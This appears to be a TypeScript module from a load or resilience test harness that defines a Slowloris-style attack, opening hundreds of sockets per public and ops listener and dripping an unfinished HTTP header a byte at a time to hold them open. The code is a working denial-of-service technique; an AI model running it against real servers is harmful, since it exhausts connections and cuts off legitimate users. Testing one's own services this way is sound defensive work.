import { type Attack, perSecond } from './attack.ts';
import { keepOpen, openSocket } from './requests.ts';

const PER_LISTENER = 250;
const OPENED_PER_SECOND = 50;
const DRIP_MS = 4000;

/** Heads of requests that never end, a byte every few seconds, on public and ops listeners. */
export const slowHeads: Attack = ({ apis, ops }, count) => {
  for (const listener of [...apis, ...ops]) {
    keepOpen(PER_LISTENER, OPENED_PER_SECOND, () => {
      const socket = openSocket(listener);
      socket.write('GET /livez HTTP/1.1\r\nHost: a\r\nX-Slow: ');
      const drip = setInterval(() => socket.write('x'), DRIP_MS);
      count('opened');
      return socket.on('close', () => clearInterval(drip)).resume();
    });
  }
  // So that the summary shows whether it is still possible to connect.
  perSecond(1, () => count('seconds'));
};
